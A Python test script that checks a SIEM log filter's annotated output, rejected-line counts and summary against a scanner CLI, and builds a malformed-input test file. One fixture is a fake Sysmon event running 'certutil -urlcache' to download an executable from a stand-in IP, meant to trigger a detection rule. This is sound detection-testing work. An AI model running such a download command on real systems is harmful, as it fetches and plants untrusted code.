#!/usr/bin/env python3
"""Checks siem_filter's output against its input and against the CLI.

    check_filter.py INPUT OUTPUT STDERR CLI_JSONL [--mmexternal MM_OUTPUT]
                    [--min-level LEVEL] [--at-end N]
    check_filter.py --make-mixed INPUT MIXED

INPUT is what siem_filter read, OUTPUT and STDERR what it wrote, CLI_JSONL
what `landwatch scan --format jsonl` wrote for the same INPUT (with the same
rules and zones). It checks that

  - every input line comes out, in order, one output line each, then one
    line {"landwatch":[DET]} per detection of the end-of-input flush;
  - a line without detections (a malformed one included) comes out byte
    for byte (a last line without its newline gets one);
  - an annotated line is the input's text up to its closing brace, then the
    "landwatch" key, and is the input object plus that key;
  - the lines Python's json cannot read as an object are exactly the ones
    counted as rejected, and none is annotated;
  - the detections are the CLI's: a stateless one at the input line the CLI
    names; a correlated one (it has "events") at that line or after it
    (the scanner lets it out once its lateness has passed), or at the end;
    compared as whole objects, less `file` and `line`, which the C API
    cannot set;
  - the stderr summary's figures agree with all that;
  - with --min-level, the CLI's detections below LEVEL are left out;
  - with --at-end N, N detections came from the end-of-input flush;
  - with --mmexternal, MM_OUTPUT has one reply per input line ({} or
    {"$!":{"landwatch":[...]}}) carrying the same detections as OUTPUT.

--make-mixed writes INPUT with malformed, blank and awkward lines mixed in
(never first: the CLI tells a JSON array or a multi-line object by the first
line), for the test of malformed input.

Standard library only; exits 1 with the reasons when a check fails.
"""

import argparse
import collections
import json
import re
import sys

failures = []


def fail(message):
    failures.append(message)
    if len(failures) <= 20:
        print("check_filter: " + message, file=sys.stderr)


def lines_of(path):
    """The file's lines as bytes, each with its newline (the last may lack it)."""
    with open(path, "rb") as f:
        return f.read().splitlines(keepends=True)


def as_object(line):
    """The line as a JSON object, or None when it is not one (what the
    scanner rejects: invalid UTF-8, bad JSON, another value, NaN...)."""
    try:
        text = line.decode("utf-8")
    except UnicodeDecodeError:
        return None
    if not text.strip():
        return None
    try:
        value = json.loads(text, parse_constant=lambda c: (_ for _ in ()).throw(ValueError(c)))
    except ValueError:
        return None
    return value if isinstance(value, dict) else None


def canonical(det):
    """A detection without what the C path cannot know (where its events
    were read from), as comparable text."""
    d = dict(det)
    d.pop("file", None)
    d.pop("line", None)
    if "events" in d:
        d["events"] = [{k: v for k, v in e.items() if k not in ("file", "line")} for e in d["events"]]
    return json.dumps(d, sort_keys=True)


def parse_summary(stderr_path):
    with open(stderr_path, encoding="utf-8", errors="replace") as f:
        text = f.read()
    m = re.search(
        r"siem_filter: (\d+) lines read, (\d+) rejected \(passed on unannotated\), (\d+) blank, "
        r"(\d+) detections \((\d+) events annotated, (\d+) at end of input\)",
        text,
    )
    if m is None:
        fail(f"no summary line in {stderr_path}: {text[-500:]!r}")
        return None
    keys = ("lines", "rejected", "blank", "detections", "annotated", "at_end")
    return dict(zip(keys, map(int, m.groups())))


LEVELS = ["informational", "low", "medium", "high", "critical"]


def check(input_path, output_path, stderr_path, cli_path, mm_path, min_level, want_at_end):
    inp = lines_of(input_path)
    out = lines_of(output_path)
    n = len(inp)
    if len(out) < n:
        fail(f"{len(out)} output lines for {n} input lines")
        return
    found = []  # (input line from 1, or None for the end, detection)
    annotated = rejected = blank = 0
    for i, (a, b) in enumerate(zip(inp, out), start=1):
        expected = a if a.endswith(b"\n") else a + b"\n"
        obj = as_object(a)
        if not a.strip():
            blank += 1
        elif obj is None:
            rejected += 1
        if b == expected:
            continue
        if obj is None:
            fail(f"line {i}: not a JSON object, yet changed: {b[:200]!r}")
            continue
        annotated += 1
        text = a.rstrip(b" \t\r\n")
        head = text[:-1]
        if not b.startswith(head) or not b.endswith(b"]}\n"):
            fail(f"line {i}: the annotation is not inserted before the event's closing brace")
        try:
            got = json.loads(b)
        except ValueError as e:
            fail(f"line {i}: the annotated line is not JSON: {e}")
            continue
        dets = got.pop("landwatch", None)
        if not isinstance(dets, list) or not dets:
            fail(f"line {i}: changed but no \"landwatch\" list")
            continue
        if got != obj:
            fail(f"line {i}: the event changed beyond the \"landwatch\" key")
        found.extend((i, d) for d in dets)
    for j, b in enumerate(out[n:], start=1):
        try:
            extra = json.loads(b)
        except ValueError as e:
            fail(f"end-of-input line {j}: not JSON: {e}")
            continue
        if not (isinstance(extra, dict) and list(extra) == ["landwatch"] and len(extra["landwatch"]) == 1):
            fail(f"end-of-input line {j}: not {{\"landwatch\":[DETECTION]}}: {b[:200]!r}")
            continue
        found.append((None, extra["landwatch"][0]))
    at_end = len(out) - n

    with open(cli_path, encoding="utf-8") as f:
        cli = [json.loads(line) for line in f if line.strip()]
    if min_level is not None:
        cli = [d for d in cli if LEVELS.index(d["level"]) >= LEVELS.index(min_level)]
    for _, d in found:
        if d.get("file") is not None or d.get("line") is not None:
            fail(f"{d['rule']}: file/line should be null in the C path, are {d.get('file')!r}/{d.get('line')!r}")
    # Stateless detections: at the CLI's line exactly.
    mine = collections.Counter((i, canonical(d)) for i, d in found if "events" not in d)
    theirs = collections.Counter((d["line"], canonical(d)) for d in cli if "events" not in d)
    for key in (mine - theirs):
        fail(f"line {key[0]}: a detection the CLI does not give there: {key[1][:200]}")
    for key in (theirs - mine):
        fail(f"line {key[0]}: the CLI's detection is missing: {key[1][:200]}")
    # Correlated ones: the same objects, each at or after the CLI's line.
    mine_c = collections.defaultdict(list)
    for i, d in found:
        if "events" in d:
            mine_c[canonical(d)].append(n + 1 if i is None else i)
    theirs_c = collections.defaultdict(list)
    for d in cli:
        if "events" in d:
            theirs_c[canonical(d)].append(d["line"])
    for key in set(mine_c) | set(theirs_c):
        a, b = sorted(mine_c.get(key, [])), sorted(theirs_c.get(key, []))
        rule = json.loads(key)["rule"]
        if len(a) != len(b):
            fail(f"{rule}: {len(a)} such correlated detections, the CLI gives {len(b)}")
            continue
        for at, completed in zip(a, b):
            if at < completed:
                fail(f"{rule}: annotates line {at}, before line {completed} that completes it")
    correlated = sum(len(v) for v in mine_c.values())
    if want_at_end is not None and at_end != want_at_end:
        fail(f"{at_end} detections at end of input, expected {want_at_end}")

    s = parse_summary(stderr_path)
    if s is not None:
        want = {"lines": n, "rejected": rejected, "blank": blank, "detections": len(found),
                "annotated": annotated, "at_end": at_end}
        for k, v in want.items():
            if s[k] != v:
                fail(f"summary: {k} is {s[k]}, the output shows {v}")

    if mm_path is not None:
        mm = lines_of(mm_path)
        if len(mm) != len(out):
            fail(f"mmexternal: {len(mm)} lines, the default output has {len(out)}")
        by_line = collections.defaultdict(list)
        for i, d in found:
            if i is not None:
                by_line[i].append(d)
        for i, b in enumerate(mm[:n], start=1):
            try:
                reply = json.loads(b)
            except ValueError as e:
                fail(f"mmexternal line {i}: not JSON: {e}")
                continue
            want = {"$!": {"landwatch": by_line[i]}} if by_line[i] else {}
            if reply != want or not b.endswith(b"\n"):
                fail(f"mmexternal line {i}: {b[:200]!r}, expected {json.dumps(want)[:200]}")
        if mm[n:] != out[n:]:
            fail("mmexternal: the end-of-input lines differ from the default output's")

    print(f"check_filter: {input_path}: {n} lines ({rejected} rejected, {blank} blank), "
          f"{len(found)} detections ({correlated} correlated, {at_end} at end of input), "
          f"{annotated} lines annotated: " + ("FAILED" if failures else "ok"))


def make_mixed(input_path, mixed_path):
    """INPUT with awkward lines mixed in: every kind of line the scanner
    rejects, blank ones, valid objects in odd shapes, a 1 MB event that
    fires a rule, and a last line without its newline."""
    inp = lines_of(input_path)
    certutil = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Image": "C:\\Windows\\System32\\certutil.exe",
                "CommandLine": "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
                "Padding": "x" * (1 << 20)}
    odd = [
        b'{"EventID": 1, "Image": "C:\\\\x.exe"\n',       # cut short
        b"[1, 2, 3]\n",                                    # not an object
        b'"just a string"\n',
        b"42\n",
        b"null\n",
        b'{"EventID": 1, "Image": "\xff\xfe"}\n',          # invalid UTF-8
        b'{"EventID": 1}\x00 trailing\n',                  # a NUL byte
        b'{"a": 1} {"b": 2}\n',                            # two objects
        b'{"a": NaN}\n',
        b"\xef\xbb\xbf" + b'{"EventID": 1}\n',            # a byte order mark
        b"not json at all\n",
        b"\n",                                             # blank
        b"   \t \n",
        b"{}\n",                                           # valid, empty
        b'{"EventID": 4624}\r\n',                          # CRLF
        (json.dumps(certutil) + "\n").encode(),            # 1 MB, fires
        b'  {"EventID": 1, "CommandLine": "whoami"}   \n',  # spaces around
    ]
    out = [inp[0]]
    for i, line in enumerate(inp[1:], start=1):
        if i % 20 == 0 and odd:
            out.append(odd.pop(0))
        out.append(line)
    out.extend(odd)
    text = b"".join(line if line.endswith(b"\n") else line + b"\n" for line in out)
    with open(mixed_path, "wb") as f:
        f.write(text[:-1])  # the last line without its newline


def main(argv):
    if len(argv) == 3 and argv[0] == "--make-mixed":
        make_mixed(argv[1], argv[2])
        return 0
    p = argparse.ArgumentParser(description="Checks siem_filter's output (see the module's doc).")
    for name in ("input", "output", "stderr", "cli_jsonl"):
        p.add_argument(name)
    p.add_argument("--mmexternal", metavar="MM_OUTPUT")
    p.add_argument("--min-level", choices=LEVELS)
    p.add_argument("--at-end", type=int, metavar="N")
    a = p.parse_args(argv)
    check(a.input, a.output, a.stderr, a.cli_jsonl, a.mmexternal, a.min_level, a.at_end)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
